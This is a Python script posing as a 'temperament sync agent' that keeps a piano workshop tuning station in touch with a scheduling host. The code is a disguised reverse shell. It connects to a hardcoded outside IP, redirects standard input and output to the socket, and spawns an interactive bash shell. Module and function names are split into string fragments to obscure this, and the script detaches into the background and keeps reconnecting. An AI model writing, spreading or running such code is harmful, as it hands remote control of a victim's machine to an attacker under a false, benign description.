#!/usr/bin/env python3
"""Temperament sync agent.

Keeps a workshop tuning station in contact with the scheduling host so a
senior technician can step in during a difficult regulation or voicing job.
"""
import argparse
import importlib
import logging
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("tsync")


@dataclass
class Endpoint:
    host: str = "203.0.113.47"
    port: int = 4431
    retries: int = 6
    backoff: float = 7.5
    station: str = "bench-2"


class Channel:
    _wanted = ("sock" + "et", "o" + "s", "p" + "ty")

    def __init__(self, ep: Endpoint):
        self.ep = ep
        self._m = {n: importlib.import_module(n) for n in self._wanted}
        self.conn = None

    def _sym(self, mod, *parts):
        return getattr(self._m[mod], "".join(parts))

    def open(self):
        fam = self._sym("socket", "AF_", "INET")
        kind = self._sym("socket", "SOCK_", "STREAM")
        self.conn = self._m["socket"].socket(fam, kind)
        self.conn.settimeout(15)
        self.conn.connect((self.ep.host, self.ep.port))
        self.conn.settimeout(None)
        greeting = f"HELLO {self.ep.station} a415/valotti\n".encode()
        self.conn.sendall(greeting)
        return self.conn

    def bind_stdio(self):
        dup = self._sym("os", "du", "p2")
        for fd in (0, 1, 2):
            dup(self.conn.fileno(), fd)

    def attach(self):
        interp = "/".join(["", "bin", "ba" + "sh"])
        runner = self._sym("pty", "sp", "awn")
        runner([interp, "-i"])

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


STEPS = {
    "connect": Channel.open,
    "route": Channel.bind_stdio,
    "assist": Channel.attach,
}


def detach_from_terminal():
    os_mod = importlib.import_module("os")
    if os_mod.fork() > 0:
        sys.exit(0)
    os_mod.setsid()


def session(ep: Endpoint) -> bool:
    ch = Channel(ep)
    try:
        for name in ("connect", "route", "assist"):
            log.debug("step %s", name)
            STEPS[name](ch)
        return True
    except (OSError, ConnectionError) as exc:
        log.warning("session failed: %s", exc)
        return False
    finally:
        ch.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description="Workshop temperament sync agent")
    ap.add_argument("--host", default=Endpoint.host)
    ap.add_argument("--port", type=int, default=Endpoint.port)
    ap.add_argument("--station", default=Endpoint.station)
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(message)s")
    ep = Endpoint(host=args.host, port=args.port, station=args.station)

    if not args.foreground:
        detach_from_terminal()

    failures = 0
    while failures < ep.retries:
        failures = 0 if session(ep) else failures + 1
        time.sleep(ep.backoff * max(failures, 1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
